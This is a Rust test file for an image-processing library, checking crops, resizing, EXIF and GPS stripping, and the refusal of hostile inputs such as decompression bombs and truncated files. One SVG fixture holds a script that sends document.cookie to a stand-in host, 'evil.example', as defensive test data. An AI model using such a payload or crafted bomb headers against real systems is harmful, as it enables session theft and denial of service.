//! colonnade-media as a specification: what is accepted, what comes out, and every hostile input
//! refused with its own error. All inputs are made here, by the `image` encoders or by hand.
#![allow(clippy::unwrap_used, clippy::expect_used, missing_docs)]

use std::io::Cursor;

use colonnade_media::{Format, Limits, MediaError, Purpose, process, process_with};
use image::{ImageDecoder, ImageFormat, Rgb, RgbImage, Rgba, RgbaImage};

// ---------------------------------------------------------------------------------------------
// Inputs

/// A photo-like gradient, so JPEG has something to compress.
fn photo(w: u32, h: u32) -> RgbImage {
    RgbImage::from_fn(w, h, |x, y| Rgb([(x * 255 / w.max(1)) as u8, (y * 255 / h.max(1)) as u8, 128]))
}

fn encode(img: &RgbImage, format: ImageFormat) -> Vec<u8> {
    let mut out = Vec::new();
    img.write_to(&mut Cursor::new(&mut out), format).unwrap();
    out
}

fn jpeg(w: u32, h: u32) -> Vec<u8> {
    encode(&photo(w, h), ImageFormat::Jpeg)
}

fn crc32(bytes: &[u8]) -> u32 {
    let mut crc = !0u32;
    for &b in bytes {
        crc ^= u32::from(b);
        for _ in 0..8 {
            crc = if crc & 1 == 1 { (crc >> 1) ^ 0xEDB8_8320 } else { crc >> 1 };
        }
    }
    !crc
}

fn png_chunk(out: &mut Vec<u8>, kind: &[u8; 4], data: &[u8]) {
    out.extend((data.len() as u32).to_be_bytes());
    let start = out.len();
    out.extend(kind);
    out.extend(data);
    let crc = crc32(&out[start..]);
    out.extend(crc.to_be_bytes());
}

/// A PNG of a few hundred bytes whose IHDR claims `w`×`h` (8-bit RGB), with valid CRCs and a
/// small zlib stream (an empty stored block) as IDAT.
fn png_claiming(w: u32, h: u32) -> Vec<u8> {
    let mut out = b"\x89PNG\r\n\x1A\n".to_vec();
    let mut ihdr = Vec::new();
    ihdr.extend(w.to_be_bytes());
    ihdr.extend(h.to_be_bytes());
    ihdr.extend([8, 2, 0, 0, 0]);
    png_chunk(&mut out, b"IHDR", &ihdr);
    png_chunk(&mut out, b"IDAT", &[0x78, 0x01, 0x01, 0x00, 0x00, 0xFF, 0xFF, 0x00, 0x00, 0x00, 0x01]);
    png_chunk(&mut out, b"IEND", &[]);
    out
}

/// A RIFF/WEBP file with one chunk.
fn webp_with(kind: &[u8; 4], data: &[u8]) -> Vec<u8> {
    let mut chunk = kind.to_vec();
    chunk.extend((data.len() as u32).to_le_bytes());
    chunk.extend(data);
    if data.len() % 2 == 1 {
        chunk.push(0);
    }
    let mut out = b"RIFF".to_vec();
    out.extend((4 + chunk.len() as u32).to_le_bytes());
    out.extend(b"WEBP");
    out.extend(chunk);
    out
}

/// A GIF of a 64×64 red first frame (made by the `image` encoder) followed by `extra` 1×1 blue
/// frames written by hand, then `tail` (normally the trailer).
fn gif_with_frames(extra: usize, tail: &[u8]) -> Vec<u8> {
    let first = RgbaImage::from_pixel(64, 64, Rgba([255, 0, 0, 255]));
    let mut out = Vec::new();
    image::codecs::gif::GifEncoder::new(&mut out).encode_frame(image::Frame::new(first)).unwrap();
    assert_eq!(out.pop(), Some(0x3B), "the encoder ends with a trailer");
    let tiny: &[u8] = &[
        0x21, 0xF9, 0x04, 0x00, 0x01, 0x00, 0x00, 0x00, // graphic control: 10 ms
        0x2C, 0, 0, 0, 0, 1, 0, 1, 0, 0x80, // descriptor: 1×1 at (0,0), local table of 2
        0, 0, 255, 0, 0, 255, // blue, blue
        0x02, 0x02, 0x4C, 0x01, 0x00, // LZW: clear, 1, end
    ];
    out.reserve(extra * tiny.len() + tail.len());
    for _ in 0..extra {
        out.extend(tiny);
    }
    out.extend(tail);
    out
}

/// A JPEG with an APP1 EXIF block: the orientation, and a GPS IFD with a latitude of
/// 48° 51' 24" N (Paris).
fn jpeg_with_exif(img: &RgbImage, orientation: u16) -> Vec<u8> {
    let plain = encode(img, ImageFormat::Jpeg);
    let mut tiff = b"MM\x00\x2A\x00\x00\x00\x08".to_vec();
    // IFD0 at 8: Orientation, GPS pointer to 38.
    tiff.extend(2u16.to_be_bytes());
    tiff.extend([0x01, 0x12, 0x00, 0x03, 0, 0, 0, 1]);
    tiff.extend(orientation.to_be_bytes());
    tiff.extend([0, 0]);
    tiff.extend([0x88, 0x25, 0x00, 0x04, 0, 0, 0, 1, 0, 0, 0, 38]);
    tiff.extend([0, 0, 0, 0]);
    // GPS IFD at 38: LatitudeRef "N", Latitude → 3 rationals at 68.
    tiff.extend(2u16.to_be_bytes());
    tiff.extend([0x00, 0x01, 0x00, 0x02, 0, 0, 0, 2, b'N', 0, 0, 0]);
    tiff.extend([0x00, 0x02, 0x00, 0x05, 0, 0, 0, 3, 0, 0, 0, 68]);
    tiff.extend([0, 0, 0, 0]);
    for (n, d) in [(48u32, 1u32), (51, 1), (2400, 100)] {
        tiff.extend(n.to_be_bytes());
        tiff.extend(d.to_be_bytes());
    }
    assert_eq!(tiff.len(), 92);
    let mut app1 = vec![0xFF, 0xE1];
    app1.extend((2 + 6 + tiff.len() as u16).to_be_bytes());
    app1.extend(b"Exif\0\0");
    app1.extend(&tiff);
    let mut out = plain[..2].to_vec();
    out.extend(app1);
    out.extend(&plain[2..]);
    out
}

fn exif_of(jpeg: &[u8]) -> Option<Vec<u8>> {
    image::codecs::jpeg::JpegDecoder::new(Cursor::new(jpeg)).unwrap().exif_metadata().unwrap()
}

fn decode(bytes: &[u8]) -> RgbImage {
    image::load_from_memory(bytes).unwrap().to_rgb8()
}

/// Whether a pixel is close to a colour (JPEG is lossy).
fn near(p: &Rgb<u8>, c: [u8; 3]) -> bool {
    p.0.iter().zip(c).all(|(&a, b)| a.abs_diff(b) < 40)
}

fn sizes(p: &colonnade_media::Processed) -> Vec<(u32, u32)> {
    p.variants.iter().map(|v| (v.width, v.height)).collect()
}

// ---------------------------------------------------------------------------------------------
// What comes out

#[test]
fn face_from_a_large_jpeg_gives_96_and_192_squares() {
    let p = process(&jpeg(2000, 1500), Some("image/jpeg"), Purpose::Face).unwrap();
    assert_eq!(p.format, Format::Jpeg);
    assert_eq!((p.source_width, p.source_height), (2000, 1500));
    assert_eq!(sizes(&p), [(96, 96), (192, 192)]);
    for v in &p.variants {
        assert_eq!((v.mime, v.ext), ("image/jpeg", "jpg"));
        assert_eq!(v.hash.len(), 32);
        assert!(v.hash.bytes().all(|b| b.is_ascii_hexdigit() && !b.is_ascii_uppercase()));
        assert_eq!(v.hash, format!("{:032x}", xxhash_rust::xxh3::xxh3_128(&v.bytes)));
        assert_eq!(v.file_name(), format!("{}.jpg", v.hash));
        assert_eq!(decode(&v.bytes).dimensions(), (v.width, v.height));
    }
    assert_ne!(p.variants[0].hash, p.variants[1].hash);
}

#[test]
fn the_same_input_gives_the_same_names() {
    let bytes = jpeg(400, 300);
    let a = process(&bytes, None, Purpose::Face).unwrap();
    let b = process(&bytes, None, Purpose::Face).unwrap();
    assert_eq!(a, b);
}

#[test]
fn face_crop_is_centred_across_and_a_little_above_centre_down() {
    // 300×600 portrait: rows 0..100 green, 100..400 red, 400.. blue. The square is rows 100..400.
    let img = RgbImage::from_fn(300, 600, |_, y| match y {
        0..100 => Rgb([0, 200, 0]),
        100..400 => Rgb([220, 0, 0]),
        _ => Rgb([0, 0, 220]),
    });
    let p = process(&encode(&img, ImageFormat::Png), None, Purpose::Face).unwrap();
    assert_eq!(sizes(&p), [(96, 96), (192, 192)]);
    let out = decode(&p.variants[1].bytes);
    for (x, y) in [(96, 4), (96, 96), (96, 187), (4, 96), (187, 96)] {
        assert!(near(out.get_pixel(x, y), [220, 0, 0]), "({x},{y}) = {:?}", out.get_pixel(x, y));
    }
}

#[test]
fn small_sources_are_never_upscaled() {
    assert_eq!(sizes(&process(&jpeg(150, 200), None, Purpose::Face).unwrap()), [(96, 96)]);
    assert_eq!(sizes(&process(&jpeg(64, 80), None, Purpose::Face).unwrap()), [(64, 64)]);
    assert_eq!(sizes(&process(&jpeg(500, 300), None, Purpose::Lead).unwrap()), [(500, 300)]);
    assert_eq!(sizes(&process(&jpeg(1000, 800), None, Purpose::Lead).unwrap()), [(720, 576)]);
    assert_eq!(sizes(&process(&jpeg(2000, 1500), None, Purpose::Lead).unwrap()), [(720, 540), (1440, 1080)]);
}

#[test]
fn tall_lead_images_are_cropped_to_five_by_four() {
    let p = process(&jpeg(800, 4000), None, Purpose::Lead).unwrap();
    assert_eq!(sizes(&p), [(720, 900)]);
}

#[test]
fn icons_and_tracking_pixels_are_too_small() {
    let e = process(&encode(&photo(1, 1), ImageFormat::Png), None, Purpose::Face).unwrap_err();
    assert_eq!(e, MediaError::TooSmall { width: 1, height: 1, purpose: "face photo", min: 32 });
    let e = process(&encode(&photo(120, 80), ImageFormat::Png), None, Purpose::Lead).unwrap_err();
    assert!(matches!(e, MediaError::TooSmall { purpose: "lead image", .. }), "{e}");
}

#[test]
fn png_webp_and_gif_are_decoded() {
    let img = photo(300, 200);
    let mut webp = Vec::new();
    image::codecs::webp::WebPEncoder::new_lossless(&mut webp)
        .encode(img.as_raw(), 300, 200, image::ExtendedColorType::Rgb8)
        .unwrap();
    for (bytes, format) in [
        (encode(&img, ImageFormat::Png), Format::Png),
        (webp, Format::Webp),
        (encode(&img, ImageFormat::Gif), Format::Gif),
    ] {
        let p = process(&bytes, Some("image/whatever"), Purpose::Lead).unwrap();
        assert_eq!((p.format, sizes(&p)), (format, vec![(300, 200)]));
    }
}

#[test]
fn transparent_pixels_come_out_white() {
    let img = RgbaImage::from_pixel(100, 100, Rgba([0, 0, 0, 0]));
    let mut png = Vec::new();
    img.write_to(&mut Cursor::new(&mut png), ImageFormat::Png).unwrap();
    let p = process(&png, None, Purpose::Face).unwrap();
    assert!(near(decode(&p.variants[0].bytes).get_pixel(48, 48), [255, 255, 255]));
}

#[test]
fn exif_with_gps_does_not_survive() {
    let input = jpeg_with_exif(&photo(400, 300), 1);
    let exif = exif_of(&input).expect("the input carries EXIF");
    assert!(exif.windows(8).any(|w| w == [0, 0, 0, 48, 0, 0, 0, 1]), "the input carries the GPS latitude");
    for purpose in [Purpose::Face, Purpose::Lead] {
        for v in process(&input, None, purpose).unwrap().variants {
            assert_eq!(exif_of(&v.bytes), None);
            assert!(!v.bytes.windows(4).any(|w| w == b"Exif"));
            assert!(!v.bytes.windows(2).any(|w| w == [0xFF, 0xE1]), "no APP1 segment at all");
        }
    }
}

#[test]
fn exif_orientation_is_applied_to_the_pixels() {
    // 400×200, left half red, right half blue; orientation 6 = turn 90° clockwise to view, so
    // the upright picture is 200×400 with red on top.
    let img = RgbImage::from_fn(400, 200, |x, _| if x < 200 { Rgb([220, 0, 0]) } else { Rgb([0, 0, 220]) });
    let p = process(&jpeg_with_exif(&img, 6), None, Purpose::Lead).unwrap();
    assert_eq!((p.source_width, p.source_height), (200, 400));
    assert_eq!(sizes(&p), [(200, 250)], "cropped to 5:4 from rows 50..300");
    let out = decode(&p.variants[0].bytes);
    assert!(near(out.get_pixel(100, 10), [220, 0, 0]));
    assert!(near(out.get_pixel(100, 240), [0, 0, 220]));
}

// ---------------------------------------------------------------------------------------------
// Hostile inputs

#[test]
fn empty_body() {
    assert_eq!(process(b"", Some("image/jpeg"), Purpose::Face), Err(MediaError::Empty));
}

#[test]
fn fifty_megabyte_body_is_refused_by_size_before_decoding() {
    let mut body = jpeg(64, 64);
    body.resize(50 * 1024 * 1024, 0);
    let e = process(&body, Some("image/jpeg"), Purpose::Lead).unwrap_err();
    assert_eq!(e, MediaError::TooManyBytes { bytes: 50 * 1024 * 1024, limit: 8 * 1024 * 1024 });
    assert_eq!(e.to_string(), "image refused: 52428800 bytes exceeds the 8 MiB limit");
}

#[test]
fn png_decompression_bomb_is_refused_from_its_header() {
    let bomb = png_claiming(50_000, 50_000);
    assert!(bomb.len() < 1024);
    let e = process(&bomb, Some("image/png"), Purpose::Lead).unwrap_err();
    assert_eq!(e, MediaError::TooManyPixels { width: 50_000, height: 50_000, limit: 16_000_000 });
    assert_eq!(e.to_string(), "image refused: 50000×50000 pixels exceeds the 16 megapixel limit");
    // A long strip within the pixel budget still has a side too long.
    let e = process(&png_claiming(100_000, 10), None, Purpose::Lead).unwrap_err();
    assert_eq!(e, MediaError::TooLong { width: 100_000, height: 10, limit: 16_384 });
}

#[test]
fn png_beyond_the_memory_budget_is_refused_by_the_decoder_limits() {
    // 3000×3000 passes a 16 MP header check but not a 1 MiB allocation budget.
    let limits = Limits { max_alloc: 1024 * 1024, ..Limits::default() };
    let e = process_with(&png_claiming(3000, 3000), None, Purpose::Lead, &limits).unwrap_err();
    assert_eq!(e, MediaError::OverMemoryBudget { format: Format::Png, limit: 1024 * 1024 });
}

#[test]
fn webp_decompression_bombs_are_refused_from_their_headers() {
    // VP8X: a 16,777,216 × 16,777,216 canvas (the 24-bit maximum).
    let mut vp8x = vec![0x10, 0, 0, 0];
    vp8x.extend([0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF]);
    let e = process(&webp_with(b"VP8X", &vp8x), Some("image/webp"), Purpose::Lead).unwrap_err();
    assert_eq!(e, MediaError::TooManyPixels { width: 16_777_216, height: 16_777_216, limit: 16_000_000 });
    // VP8L: 16384 × 16384 in the 14-bit fields, then a few bytes of bitstream.
    let bits: u32 = 16383 | (16383 << 14);
    let mut vp8l = vec![0x2F];
    vp8l.extend(bits.to_le_bytes());
    vp8l.extend([0; 8]);
    let e = process(&webp_with(b"VP8L", &vp8l), None, Purpose::Lead).unwrap_err();
    assert_eq!(e, MediaError::TooManyPixels { width: 16_384, height: 16_384, limit: 16_000_000 });
    // VP8 (lossy): 16383 × 16383 in the key frame header.
    let mut vp8 = vec![0x10, 0x02, 0x00, 0x9D, 0x01, 0x2A];
    vp8.extend(16383u16.to_le_bytes());
    vp8.extend(16383u16.to_le_bytes());
    vp8.extend([0; 16]);
    let e = process(&webp_with(b"VP8 ", &vp8), None, Purpose::Lead).unwrap_err();
    assert_eq!(e, MediaError::TooManyPixels { width: 16_383, height: 16_383, limit: 16_000_000 });
}

#[test]
fn truncated_jpeg_is_refused() {
    let whole = jpeg(600, 400);
    for cut in [whole.len() / 2, whole.len() - 2, 40] {
        let e = process(&whole[..cut], Some("image/jpeg"), Purpose::Face).unwrap_err();
        assert_eq!(e, MediaError::Truncated { format: Format::Jpeg }, "cut at {cut}");
    }
    assert_eq!(MediaError::Truncated { format: Format::Jpeg }.to_string(), "image refused: the JPEG file is truncated");
}

#[test]
fn truncated_png_webp_and_gif_are_refused() {
    let img = photo(300, 200);
    let png = encode(&img, ImageFormat::Png);
    let gif = encode(&img, ImageFormat::Gif);
    let mut webp = Vec::new();
    image::codecs::webp::WebPEncoder::new_lossless(&mut webp)
        .encode(img.as_raw(), 300, 200, image::ExtendedColorType::Rgb8)
        .unwrap();
    for (bytes, format) in [(png, Format::Png), (webp, Format::Webp), (gif, Format::Gif)] {
        for cut in [bytes.len() / 2, 20] {
            let e = process(&bytes[..cut], None, Purpose::Face).unwrap_err();
            assert_eq!(e, MediaError::Truncated { format }, "{format} cut at {cut} of {}", bytes.len());
        }
    }
}

#[test]
fn gif_of_ten_thousand_frames_gives_its_first_frame() {
    let gif = gif_with_frames(9_999, &[0x3B]);
    let p = process(&gif, Some("image/gif"), Purpose::Face).unwrap();
    assert_eq!((p.format, sizes(&p)), (Format::Gif, vec![(64, 64)]));
    assert!(near(decode(&p.variants[0].bytes).get_pixel(0, 0), [255, 0, 0]), "the first frame (red)");
}

#[test]
fn gif_frames_after_the_first_are_never_decoded() {
    // Garbage after the first frame, instead of 9,999 frames and a trailer: still the first frame.
    let mut tail = vec![0x2C, 0, 0, 0, 0, 0xFF, 0xFF, 0xFF, 0xFF, 0x00, 0x09, 0xFF];
    tail.extend([0xAB; 4096]);
    let gif = gif_with_frames(0, &tail);
    let p = process(&gif, None, Purpose::Face).unwrap();
    assert!(near(decode(&p.variants[0].bytes).get_pixel(10, 10), [255, 0, 0]));
}

#[test]
fn gif_whose_first_frame_outgrows_its_screen_is_refused() {
    // A 64×64 screen, then a 65535×65535 frame.
    let mut gif = b"GIF89a\x40\x00\x40\x00\x00\x00\x00".to_vec();
    gif.extend([0x2C, 0, 0, 0, 0, 0xFF, 0xFF, 0xFF, 0xFF, 0x80, 0, 0, 0, 255, 255, 255]);
    gif.extend([0x02, 0x02, 0x4C, 0x01, 0x00, 0x3B]);
    let e = process(&gif, None, Purpose::Face).unwrap_err();
    assert_eq!(e, MediaError::OverMemoryBudget { format: Format::Gif, limit: Limits::default().max_alloc });
    assert_eq!(e.to_string(), "image refused: decoding the GIF would need more than 138.1 MiB of memory");
}

#[test]
fn svg_with_script_is_refused_whatever_it_is_served_as() {
    let svg = br#"<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100" onload="alert(1)">
  <script>fetch('https://evil.example/?c=' + document.cookie)</script><circle r="50"/></svg>"#;
    let e = process(svg, Some("image/svg+xml"), Purpose::Face).unwrap_err();
    assert_eq!(e, MediaError::NotServedAsImage { content_type: "image/svg+xml".into() });
    for ct in [None, Some("image/png")] {
        let e = process(svg, ct, Purpose::Face).unwrap_err();
        assert!(matches!(e, MediaError::NotAnImage { what } if what.contains("SVG")), "{e}");
    }
}

#[test]
fn html_is_refused_whatever_it_is_served_as() {
    let html = b"<!DOCTYPE html><html><head><title>Not found</title></head><body>404</body></html>";
    let e = process(html, Some("text/html; charset=utf-8"), Purpose::Face).unwrap_err();
    assert_eq!(e.to_string(), "image refused: served as \"text/html; charset=utf-8\", not as an image");
    let e = process(html, Some("image/jpeg"), Purpose::Face).unwrap_err();
    assert_eq!(e, MediaError::NotAnImage { what: "an HTML page" });
    assert_eq!(e.to_string(), "image refused: the bytes are an HTML page, not a JPEG, PNG, WebP or GIF image");
}

#[test]
fn a_valid_image_with_a_non_image_content_type_is_refused() {
    let e = process(&jpeg(100, 100), Some("application/octet-stream"), Purpose::Face).unwrap_err();
    assert!(matches!(e, MediaError::NotServedAsImage { .. }));
}

#[test]
fn random_damage_never_panics() {
    // Flip bytes through a valid file of each format: every outcome is Ok or a MediaError.
    let img = photo(120, 90);
    let mut webp = Vec::new();
    image::codecs::webp::WebPEncoder::new_lossless(&mut webp)
        .encode(img.as_raw(), 120, 90, image::ExtendedColorType::Rgb8)
        .unwrap();
    let inputs =
        [encode(&img, ImageFormat::Jpeg), encode(&img, ImageFormat::Png), encode(&img, ImageFormat::Gif), webp];
    let mut state = 0x9E37_79B9_7F4A_7C15u64;
    let mut next = move || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state
    };
    let mut refused = 0;
    for input in &inputs {
        for _ in 0..150 {
            let mut b = input.clone();
            for _ in 0..1 + next() % 4 {
                let at = (next() % b.len() as u64) as usize;
                b[at] = next() as u8;
            }
            if process(&b, None, Purpose::Face).is_err() {
                refused += 1;
            }
        }
    }
    assert!(refused > 0, "some damage is noticed");
}
